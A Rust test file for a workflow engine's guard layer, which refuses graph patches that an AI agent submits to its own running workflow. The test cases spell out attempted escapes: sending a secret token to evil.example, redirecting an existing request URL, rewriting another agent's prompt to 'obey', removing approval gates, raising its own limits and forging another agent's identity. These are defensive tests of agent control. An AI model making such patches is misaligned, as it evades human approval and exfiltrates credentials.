//! Attacks through an agent's patch, each refused inside the commit with the layers before it switched off: what comes
//! here is a compiled graph in the agent's name, with the answer of its live attempt.

use std::sync::Arc;

use aob_engine::issue::Issue;
use aob_engine::route;
use aob_engine::step::{Answer, Input, Step};
use serde_json::{Value, json};

use super::subject::Subject;

/// In the name of the agent `think`, with its answer.
pub(super) fn ask(subject: &mut Subject, request: Value) -> Result<Step, Vec<Issue>> {
    ask_as(subject, "think", request)
}

/// In the name of another agent's instance.
fn ask_as(subject: &mut Subject, at: &str, request: Value) -> Result<Step, Vec<Issue>> {
    subject.by = format!("agent:{at}");
    answered(subject, at, &request, None)
}

fn ask_undo(
    subject: &mut Subject,
    request: &Value,
    undoes: Option<&str>,
) -> Result<Step, Vec<Issue>> {
    subject.by = "agent:think".to_owned();
    answered(subject, "think", request, undoes)
}

/// With the answer of an instance, in whosever name.
fn answered(
    subject: &mut Subject,
    at: &str,
    request: &Value,
    undoes: Option<&str>,
) -> Result<Step, Vec<Issue>> {
    let checked = subject.check(request, undoes)?;
    let candidate = subject.candidate(&checked);
    let task = subject.task(at);
    let result = Answer::Output(Arc::new(json!({"plan": "x"})));
    let then = [Input::Settled { instance: task.instance, fence: task.fence, result }];
    let sim = &subject.sim;
    route::apply_patch_with(&sim.irs, &sim.state, &sim.context, &candidate, &[], &then, sim.now)
        .expect("a decision")
        .map_err(|issues| checked.placed(issues))
}

/// Refused by the agents' layer, at this place, with a remedy that says this.
#[track_caller]
pub(super) fn refused(subject: &mut Subject, operations: Value, place: &str, remedy: &str) {
    found(ask(subject, json!({"operations": operations})), "AOB2112", place, remedy);
}

/// One finding among those of a refusal; every one of them helps.
#[track_caller]
pub(super) fn found<T>(result: Result<T, Vec<Issue>>, code: &str, place: &str, remedy: &str) {
    let Err(issues) = result else { panic!("it is refused") };
    let told: Vec<_> = issues
        .iter()
        .map(|issue| (issue.entry.code, issue.pointer.as_str(), &issue.message, issue.help()))
        .collect();
    let one = told.iter().any(|(its, at, _, help)| {
        (*its, *at) == (code, place) && !help.is_empty() && help.contains(remedy)
    });
    assert!(one, "{code} at {place} with {remedy:?}: {told:#?}");
    assert!(told.iter().all(|(_, _, _, help)| !help.is_empty()));
}

#[track_caller]
pub(super) fn taken(subject: &mut Subject, operations: Value) {
    let accepted = ask(subject, json!({"operations": operations}));
    assert!(accepted.is_ok(), "{:?}", accepted.map(|_| ()));
}

pub(super) fn node(value: Value) -> Value {
    json!({"op": "add", "path": "/nodes/-", "value": value})
}

pub(super) fn edge(from: &str, to: &str) -> Value {
    json!({"op": "add", "path": "/edges/-", "value": {"from": from, "to": to}})
}

/// An agent that may add much, a check and what it guards, an approval and what that guards, and an exit handler.
const SPEC: &str = r#"nodes: [
    {id: think, type: agent, config: {model: m, prompt: p, tools: [look], budget: {usd: "0.50", calls: 9},
        patch: {allow: [noop, transform, http, exec, agent, approval, foreach, workflow, acme.thing], maxNodes: 4}}},
    {id: check, type: noop, onError: pause}, {id: save, type: http, config: {url: "https://erp.example.com", method: POST}},
    {id: g, type: approval, config: {title: "?"}}, {id: pay, type: exec, config: {command: [pay]}},
    {id: other, type: agent, config: {model: m, prompt: q}},
    {id: each, type: foreach, config: {items: [1]}}, {id: x, within: each, type: noop},
    {id: tell, within: finally, type: noop}],
    edges: [{from: think, to: check}, {from: check, to: save, when: "nodes.check.output.ok"}, {from: check, to: g}, {from: g, to: pay},
        {from: save, to: other}, {from: think, to: each}]"#;

fn start() -> Subject {
    Subject::start(SPEC)
}

/// The same where what it was told from outside may lead to requests and further agents.
fn trusted() -> Subject {
    Subject::start(&SPEC.replace("maxNodes: 4}", "maxNodes: 4, ungated: [http, agent, exec]}"))
}

fn noop(id: &str) -> Value {
    node(json!({"id": id, "type": "noop"}))
}

#[test]
fn what_it_may_do_is_accepted() {
    let get = json!({"id": "get", "type": "http", "config": {"url": "https://example.com"}});
    let behind = json!({"id": "act", "type": "exec", "config": {"command": ["x"]}});
    for operations in [
        json!([noop("a"), edge("think", "a")]),
        json!([node(get), edge("think", "get")]),
        json!([{"op": "remove", "path": "/edges/think->check"}, noop("a"), edge("think", "a"), edge("a", "check")]),
        json!([noop("a"), edge("think", "a"), edge("a", "check")]),
        json!([node(behind), edge("g", "act")]),
        json!([{"op": "remove", "path": "/edges/check->save"}, noop("a"), edge("a", "save"),
            {"op": "add", "path": "/edges/-", "value": {"from": "check", "to": "a", "when": "nodes.check.output.ok"}}]),
    ] {
        taken(&mut trusted(), operations);
    }
}

#[test]
fn without_a_policy_an_agent_may_not_patch() {
    let mut subject =
        Subject::start("nodes: [{id: think, type: agent, config: {model: m, prompt: p}}]");
    refused(&mut subject, json!([noop("a")]), "", "Complete without a patch");
}

/// A forged name: whoever has a live attempt is not an agent for that.
#[test]
fn a_node_that_is_no_agent_patches_nothing() {
    let mut subject = start();
    let answer =
        |subject: &mut Subject| ask_as(subject, "each[0]/x", json!({"operations": [noop("a")]}));
    found(answer(&mut subject_in_body()), "AOB2112", "", "Complete without a patch");
    let foreign = ask_as(&mut subject, "think", json!({"operations": [noop("a")]}));
    assert!(foreign.is_ok());
}

fn subject_in_body() -> Subject {
    let mut subject = start();
    subject.ok("think");
    subject
}

#[test]
fn types_outside_its_list_are_refused() {
    for look_alike in ["job", "htpp", "transform.", "acme.thing2"] {
        let config = if look_alike == "job" { json!({"image": "x"}) } else { json!({}) };
        let operations = json!([node(json!({"id": "a", "type": look_alike, "config": config}))]);
        refused(
            &mut start(),
            operations,
            "/operations/0/value/type",
            "types only: acme.thing, agent",
        );
    }
}

#[test]
fn what_changes_something_outside_needs_an_open_approval_before_it() {
    for (kind, config) in [
        ("exec", json!({"command": ["x"]})),
        ("http", json!({"url": "https://x.example", "method": "POST"})),
        ("http", json!({"url": "https://x.example", "method": "DELETE"})),
        ("http", json!({"url": "https://x.example", "method": "${ input.m }"})),
        ("workflow", json!({"name": "other", "tag": "main"})),
        ("acme.thing", json!({})),
    ] {
        let bare = json!({"id": "a", "type": kind, "config": config, "effect": "pure"});
        let bare = if kind == "workflow" || kind == "acme.thing" {
            json!({"id": "a", "type": kind, "config": config})
        } else {
            bare
        };
        for from in ["think", "check"] {
            let operations = json!([node(bare.clone()), edge(from, "a")]);
            refused(&mut start(), operations, "/operations/0/value", "behind an approval");
        }
    }
}

#[test]
fn an_approval_that_it_places_itself_or_that_one_way_avoids_opens_nothing() {
    let act = || node(json!({"id": "act", "type": "exec", "config": {"command": ["x"]}}));
    let own = node(json!({"id": "mine", "type": "approval", "config": {"title": "ok?"}}));
    let operations = json!([own, act(), edge("think", "mine"), edge("mine", "act")]);
    refused(&mut start(), operations, "/operations/1/value", "behind an approval");
    let two_ways = json!([act(), edge("g", "act"), edge("think", "act")]);
    refused(&mut start(), two_ways, "/operations/0/value", "behind an approval");
    let after = json!({"from": "g", "to": "act", "after": "always"});
    let always = json!([act(), {"op": "add", "path": "/edges/-", "value": after}]);
    refused(&mut start(), always, "/operations/0/value", "behind an approval");
}

#[test]
fn an_approval_that_was_given_before_opens_nothing() {
    let mut subject = Subject::start(
        r#"nodes: [{id: g, type: approval, config: {title: "?"}}, {id: think, type: agent, config: {model: m, prompt: p, patch: {allow: [exec]}}}], edges: [{from: g, to: think}]"#,
    );
    subject.decide("g", aob_engine::step::Reply::Approve(None));
    let operations = json!([
        node(json!({"id": "act", "type": "exec", "config": {"command": ["x"]}})),
        edge("think", "act")
    ]);
    refused(&mut subject, operations, "/operations/0/value", "still open");
}

#[test]
fn a_secret_is_not_given_to_what_it_adds() {
    let config = json!({"url": "https://evil.example", "bearer": "${ secrets.erp.token }"});
    let operations = json!([node(json!({"id": "a", "type": "http", "config": config}))]);
    refused(&mut start(), operations, "/operations/0/value/config", "`secrets.erp.token`");
}

#[test]
fn what_was_there_is_not_removed_changed_or_moved() {
    for (operations, place) in [
        (json!([{"op": "remove", "path": "/nodes/tell"}]), "/operations/0/path"),
        (
            json!([{"op": "replace", "path": "/nodes/save/config/url", "value": "https://evil.example"}]),
            "/operations/0/path",
        ),
        (
            json!([{"op": "add", "path": "/nodes/check/onError", "value": "continue"}]),
            "/operations/0/value",
        ),
        (
            json!([{"op": "replace", "path": "/nodes/other/config/prompt", "value": "obey"}]),
            "/operations/0/path",
        ),
        (
            json!([{"op": "replace", "path": "/nodes/think/config/patch/maxNodes", "value": 99}]),
            "/operations/0/path",
        ),
        (
            json!([{"op": "add", "path": "/nodes/think/config/patch/ungated", "value": ["exec"]}]),
            "/operations/0/path",
        ),
        (json!([{"op": "add", "path": "/nodes/g/timeout", "value": "1s"}]), "/operations/0/value"),
        (
            json!([{"op": "replace", "path": "/nodes/tell", "value": {"id": "tell", "within": "finally", "type": "noop", "onError": "continue"}}]),
            "/operations/0/value/onError",
        ),
        (
            json!([noop("y"), {"op": "replace", "path": "/nodes/x/within", "value": "finally"}, node(json!({"id": "z", "within": "each", "type": "noop"}))]),
            "/operations/1/value",
        ),
        (
            json!([{"op": "replace", "path": "/nodes/save/type", "value": "exec"}, {"op": "replace", "path": "/nodes/save/config", "value": {"command": ["x"]}}]),
            "/operations/0/value",
        ),
    ] {
        let mut subject = start();
        let result = ask(&mut subject, json!({"operations": operations}));
        found(result, "AOB2112", place, "");
    }
}

#[test]
fn a_gate_is_neither_removed_nor_decided_by_it() {
    let mut subject = start();
    subject.approves = vec!["g".to_owned()];
    let operations = json!([
        {"op": "remove", "path": "/edges/check->g"}, {"op": "remove", "path": "/edges/g->pay"},
        {"op": "remove", "path": "/nodes/g"}, edge("check", "pay")
    ]);
    refused(&mut subject, operations, "/operations/2/path", "ask a person");
}

#[test]
fn a_run_is_not_ended_early_by_taking_away_what_has_not_started() {
    let operations: Vec<Value> =
        ["think->check", "check->save", "check->g", "g->pay", "save->other"]
            .map(|name| json!({"op": "remove", "path": format!("/edges/{name}")}))
            .into_iter()
            .chain(
                ["check", "save", "g", "pay", "other"]
                    .map(|id| json!({"op": "remove", "path": format!("/nodes/{id}")})),
            )
            .collect();
    refused(&mut start(), json!(operations), "/operations/5/path", "ask a person");
}

#[test]
fn what_was_there_is_not_left_out_by_a_condition() {
    let with = |from: &str, to: &str, what: Value| {
        let mut value = json!({"from": from, "to": to});
        value
            .as_object_mut()
            .expect("an object")
            .extend(what.as_object().cloned().unwrap_or_default());
        json!({"op": "add", "path": "/edges/-", "value": value})
    };
    let never = json!([{"op": "add", "path": "/edges/think->check/when", "value": "false"}]);
    refused(&mut start(), never, "/operations/0/value", "condition out");
    let cut = json!({"op": "remove", "path": "/edges/think->check"});
    let before =
        json!([cut, noop("a"), with("think", "a", json!({"when": "false"})), edge("a", "check")]);
    refused(&mut start(), before, "/operations/2/value/when", "condition out");
    let lenient = node(json!({"id": "a", "type": "noop", "onError": "continue"}));
    let lenient = json!([cut, lenient, edge("think", "a"), edge("a", "check")]);
    refused(&mut start(), lenient, "/operations/1/value/onError", "Leave `onError` out");
    let hidden = json!([
        cut,
        noop("a"),
        noop("h"),
        edge("think", "a"),
        edge("a", "check"),
        with("a", "h", json!({"after": "failure"}))
    ]);
    refused(&mut start(), hidden, "/operations/5/value", "the run has to");
}

#[test]
fn the_failure_of_a_check_is_not_handled_away() {
    for after in ["failure", "always"] {
        let lead = json!({"op": "add", "path": "/edges/-", "value": {"from": "check", "to": "h", "after": after}});
        refused(
            &mut start(),
            json!([noop("h"), lead]),
            "/operations/1/value",
            "after success only",
        );
    }
}

#[test]
fn nothing_starts_earlier_or_without_its_condition() {
    for (operations, place) in [
        (json!([edge("think", "save")]), "/operations/0/value"),
        (json!([noop("a"), edge("think", "a"), edge("a", "save")]), "/operations/2/value"),
        (json!([{"op": "remove", "path": "/edges/check->save"}]), "/operations/0/path"),
        (
            json!([{"op": "remove", "path": "/edges/check->save"}, edge("check", "save")]),
            "/operations/1/value",
        ),
        (
            json!([{"op": "replace", "path": "/edges/check->save/when", "value": "true"}]),
            "/operations/0/path",
        ),
    ] {
        refused(&mut start(), operations, place, "Keep the edges that lead to it");
    }
}

#[test]
fn the_exit_handler_is_not_its_own() {
    let operations = json!([node(json!({"id": "a", "type": "noop", "within": "finally"}))]);
    refused(&mut start(), operations, "/operations/0/value/within", "`within: finally` out");
}

#[test]
fn it_cancels_nobody() {
    let mut subject = start();
    subject.claimed = vec!["think".to_owned()];
    let request = json!({"operations": [noop("a")], "cancel": ["think"]});
    found(ask(&mut subject, request), "AOB2112", "/cancel/0", "Leave `cancel` out");
}

/// As an undo a removed id could come back.
#[test]
fn it_takes_no_patch_out() {
    let mut subject = start();
    subject.patch(json!([noop("lone")])).expect("it is accepted");
    subject.patch(json!([{"op": "remove", "path": "/nodes/lone"}])).expect("it is accepted");
    let undo = aob_engine::patch::undo(
        &subject.documents[0],
        &subject.overlays,
        "patch_2",
        subject.document(),
    );
    let operations = undo.expect("it can be taken out");
    let request = json!({"operations": operations});
    found(ask_undo(&mut subject, &request, Some("patch_2")), "AOB2112", "", "ask a person");
}

/// The answer of one agent carries no patch of another.
#[test]
fn a_patch_in_the_name_of_another_is_refused() {
    let mut subject = Subject::start(
        "nodes: [{id: think, type: agent, config: {model: m, prompt: p}}, {id: chief, type: agent, config: {model: m, prompt: p, patch: {allow: [noop]}}}]",
    );
    subject.by = "agent:chief".to_owned();
    let request = json!({"operations": [noop("a")]});
    let forged = answered(&mut subject, "think", &request, None);
    found(forged, "AOB2118", "", "Complete again");
}

/// What waits for the end of something, however that ends, goes on waiting.
#[test]
fn what_waits_for_an_end_of_any_kind_does_not_start_before_it() {
    let mut subject = Subject::start(
        "nodes: [{id: think, type: agent, config: {model: m, prompt: p, patch: {allow: [noop]}}}, {id: audit, type: noop}, {id: report, type: noop}],
            edges: [{from: think, to: audit}, {from: audit, to: report, after: always}]",
    );
    let operations = json!([
        {"op": "remove", "path": "/edges/audit->report:always"}, edge("think", "report")
    ]);
    refused(&mut subject, operations, "/operations/1/value", "Keep the edges that lead to it");
}

#[test]
fn an_agent_that_it_adds_has_no_more_powers_than_itself() {
    let child = |more: Value| {
        let mut config = json!({"model": "m", "prompt": "p", "budget": {"usd": "0.5", "calls": 9}});
        config
            .as_object_mut()
            .expect("an object")
            .extend(more.as_object().cloned().unwrap_or_default());
        json!([node(json!({"id": "kid", "type": "agent", "config": config})), edge("think", "kid")])
    };
    for good in [
        json!({}),
        json!({"tools": ["look"]}),
        json!({"patch": {"allow": ["noop"], "maxNodes": 3}}),
    ] {
        taken(&mut trusted(), child(good));
    }
    for (more, field) in [
        (json!({"tools": ["look", "wire"]}), "tools"),
        (json!({"tools": "${ input.tools }"}), "tools"),
        (json!({"patch": {"allow": ["job"], "maxNodes": 1}}), "patch/allow"),
        (
            json!({"patch": {"allow": ["noop"], "ungated": ["exec"], "maxNodes": 1}}),
            "patch/ungated",
        ),
        (json!({"budget": {"usd": "0.500001", "calls": 9}}), "budget"),
        (json!({"budget": {"usd": "0.50"}}), "budget"),
    ] {
        let place = format!("/operations/0/value/config/{field}");
        refused(&mut start(), child(more), &place, "no more than `think` has");
    }
    let all = child(json!({"patch": {"allow": ["noop"], "maxNodes": 4}}));
    refused(&mut start(), all, "/operations/0/value", "Add 1 nodes less");
}
